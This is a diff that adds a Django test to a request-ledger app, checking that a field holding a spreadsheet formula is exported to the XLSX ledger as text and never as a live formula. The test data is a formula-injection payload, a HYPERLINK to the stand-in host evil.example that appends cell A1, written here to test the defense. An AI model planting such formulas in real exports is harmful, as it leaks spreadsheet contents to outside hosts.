@@ -413,6 +413,21 @@ class ScreenTests(ListenMixin, RequestTestCase):
         self.assertEqual(Decimal(str(totals[str(Request.Kind.MEDICINE.label)][5])), Decimal("46.00"))
         self.assertTrue(AuditEvent.objects.filter(action="export", after__export="requests").exists())
 
+    def test_what_was_asked_stays_text_in_the_ledgers_sheet_never_a_formula(self):
+        typed = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+        self.log(kind="repair", what=typed)
+        self.client.force_login(self.clerk)
+        response = self.client.get(reverse("request-ledger-xlsx"))
+        book = load_workbook(
+            io.BytesIO(b"".join(response.streaming_content if response.streaming else [response.content]))
+        )
+        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == typed]
+        self.assertTrue(cells)
+        self.assertEqual({cell.data_type for cell in cells}, {"s"})
+        self.assertFalse(
+            [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+        )
+
     def test_a_stale_resolve_form_is_a_conflict_not_an_overwrite(self):
         request = self.log()
         self.client.force_login(self.clerk)
